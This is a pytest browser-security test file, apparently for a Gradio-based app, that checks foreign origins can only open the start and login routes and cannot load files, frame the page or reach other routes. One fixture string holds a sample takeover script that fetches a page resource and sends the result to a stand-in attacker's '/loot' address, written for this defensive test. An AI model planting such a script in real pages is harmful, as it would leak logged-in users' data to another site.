"""What a page of another origin can do with Atelier's page in a real browser: open it, and nothing else."""

from collections.abc import Iterator
from typing import Any

import pytest
import requests
from playwright.sync_api import Browser, Page

from app.ui.accounts import add_user
from tests.running import RunningService, WatchedPage
from tests.ui.browser import context
from tests.ui.foreign import Stranger, stranger

pytestmark = pytest.mark.browser
NAME, PASSWORD = "ada", "correct horse"
OPEN_TO_LINKS = {"/", "/login"}
# What Gradio would fetch from the stranger and hand on as its own page; the script then has this page's rights.
TAKEOVER = """<!doctype html><script>
  fetch("/theme.css").then((answer) => answer.text()).then((text) => {
    location = "STRANGER/loot?origin=" + encodeURIComponent(location.origin) + "&length=" + text.length;
  });
</script>"""


@pytest.fixture(scope="module")
def watched(tmp_path_factory: pytest.TempPathFactory, service: RunningService) -> Iterator[WatchedPage]:
    """A page with a login, that would call the stranger as if it were far away."""
    folder = tmp_path_factory.mktemp("watched")
    add_user(folder / "people", NAME, PASSWORD)
    with WatchedPage(folder, service.url, "--auth-file", str(folder / "people")) as page:
        yield page


@pytest.fixture
def elsewhere() -> Iterator[Stranger]:
    """The stranger's server."""
    with stranger() as running:
        yield running


@pytest.fixture
def lured(browser: Browser, watched: WatchedPage) -> Iterator[Page]:
    """The browser of somebody who has logged in."""
    with context(browser) as visitor:
        entered = visitor.request.post(watched.url + "/login", form={"name": NAME, "password": PASSWORD})
        assert entered.ok
        yield visitor.new_page()


@pytest.fixture
def gets(page_inside: dict[str, Any]) -> list[str]:
    """The path of every GET route of the page and of the Gradio in it."""
    found = {*page_inside["gets"], *OPEN_TO_LINKS}
    assert len(found) > 45
    return sorted(found)


def followed(page: Page, elsewhere: str, url: str) -> int:
    """The status of what comes when a page of `elsewhere` leads the browser to `url`."""
    page.goto(elsewhere)
    with page.expect_response(lambda answer: answer.url == url) as answer:
        page.evaluate("url => { location.href = url; }", url)
    page.wait_for_url(url, wait_until="commit")
    return answer.value.status


@pytest.mark.parametrize("site", ["cross_site", "same_site"])
def test_gradios_file_route_hands_on_no_strangers_script(
    lured: Page, watched: WatchedPage, elsewhere: Stranger, site: str
) -> None:
    address = getattr(elsewhere, site)
    target = f"{watched.url}/gradio_api/file={elsewhere.same_site}/cat.png"
    elsewhere.pages["/cat.png"] = TAKEOVER.replace("STRANGER", address)
    elsewhere.pages["/"] = f"<!doctype html><script>location = {target!r}</script>"
    with lured.expect_response(lambda answer: answer.url == target) as answer:
        lured.goto(address)
    assert answer.value.status == 403
    lured.wait_for_load_state()
    assert elsewhere.asked == ["/"]
    assert f"{elsewhere.port}" not in watched.opened


def test_a_foreign_page_can_open_the_start_and_the_login_and_no_other_route(
    lured: Page, watched: WatchedPage, elsewhere: Stranger, gets: list[str]
) -> None:
    gets.remove("/favicon.ico")  # Playwright does not tell of icons; the next test asks for it
    statuses = {path: followed(lured, elsewhere.cross_site, watched.url + path) for path in gets}
    assert {path for path, status in statuses.items() if status == 200} == OPEN_TO_LINKS
    assert {status for path, status in statuses.items() if path not in OPEN_TO_LINKS} == {403}


@pytest.mark.parametrize("site", ["cross-site", "same-site"])
@pytest.mark.parametrize("dest", ["document", "iframe", "object", "embed", "empty"])
def test_what_a_browser_says_about_the_caller_decides_at_every_address(
    watched: WatchedPage, gets: list[str], site: str, dest: str
) -> None:
    sent = {"Sec-Fetch-Site": site, "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": dest, "Accept": "text/html"}
    with requests.Session() as http:
        http.trust_env = False
        http.post(watched.url + "/login", data={"name": NAME, "password": PASSWORD})
        shown = {path for path in gets if http.get(watched.url + path, headers=sent).status_code == 200}
        assert shown == (OPEN_TO_LINKS if dest == "document" else set())
        for path in OPEN_TO_LINKS:
            assert http.post(watched.url + path, headers=sent).status_code == 403


def test_a_foreign_page_cannot_hold_the_page_in_a_frame(lured: Page, watched: WatchedPage, elsewhere: Stranger) -> None:
    elsewhere.pages["/"] = f'<!doctype html><iframe src="{watched.url}/"></iframe>'
    with lured.expect_response(watched.url + "/") as answer:
        lured.goto(elsewhere.cross_site)
    assert answer.value.status == 403
